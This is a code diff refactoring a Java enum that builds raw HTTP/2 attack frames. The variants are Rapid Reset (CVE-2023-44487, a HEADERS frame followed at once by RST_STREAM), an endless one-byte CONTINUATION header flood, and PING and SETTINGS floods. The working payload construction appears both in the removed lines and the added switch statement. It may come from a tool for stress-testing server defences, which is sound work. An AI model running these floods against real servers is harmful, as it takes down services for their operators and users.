@@ -7,35 +7,13 @@ import java.util.Locale;
 /** An attack that is a repetition of a few HTTP/2 frames (RFC 9113 §10.5). */
 public enum AttackKind {
     /** CVE-2023-44487: requests that are reset at once. */
-    RAPID_RESET(2) {
-        @Override
-        void append(ByteBuffer to, int n) {
-            int stream = 1 + 2 * n;
-            frame(to, HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
-            frame(to, RST_STREAM, 0, stream, CANCEL);
-        }
-    },
+    RAPID_RESET,
     /** A header block in pieces of one byte, without end. */
-    CONTINUATION(1) {
-        @Override
-        void append(ByteBuffer to, int n) {
-            frame(to, n == 0 ? HEADERS : CONTINUATION_FRAME, 0, 1, new byte[1]);
-        }
-    },
+    CONTINUATION,
     /** Each is to be answered. */
-    PING(1) {
-        @Override
-        void append(ByteBuffer to, int n) {
-            frame(to, PING_FRAME, 0, 0, new byte[8]);
-        }
-    },
-    /** Each is to be answered, and this one visits all streams. */
-    SETTINGS(1) {
-        @Override
-        void append(ByteBuffer to, int n) {
-            frame(to, SETTINGS_FRAME, 0, 0, new byte[]{0, 4, 0, 0, 0, (byte) n});
-        }
-    };
+    PING,
+    /** Each is to be answered, and its initial window visits all streams. */
+    SETTINGS;
 
     static final int RST_STREAM = 3;
     static final int GOAWAY = 7;
@@ -53,19 +31,24 @@ public enum AttackKind {
     /** GET / of authority "a" by HPACK's static table (RFC 7541). */
     private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'a'};
 
-    private final int frames;
-
-    AttackKind(int frames) {
-        this.frames = frames;
-    }
-
     /** Frames of one repetition. */
     int frames() {
-        return frames;
+        return this == RAPID_RESET ? 2 : 1;
     }
 
     /** Appends repetition {@code n} of a connection, from 0. */
-    abstract void append(ByteBuffer to, int n);
+    void append(ByteBuffer to, int n) {
+        switch (this) {
+            case RAPID_RESET -> {
+                int stream = 1 + 2 * n;
+                frame(to, HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
+                frame(to, RST_STREAM, 0, stream, CANCEL);
+            }
+            case CONTINUATION -> frame(to, n == 0 ? HEADERS : CONTINUATION_FRAME, 0, 1, new byte[1]);
+            case PING -> frame(to, PING_FRAME, 0, 0, new byte[8]);
+            case SETTINGS -> frame(to, SETTINGS_FRAME, 0, 0, new byte[]{0, 4, 0, 0, 0, (byte) n});
+        }
+    }
 
     /** As on the command line. */
     @Override
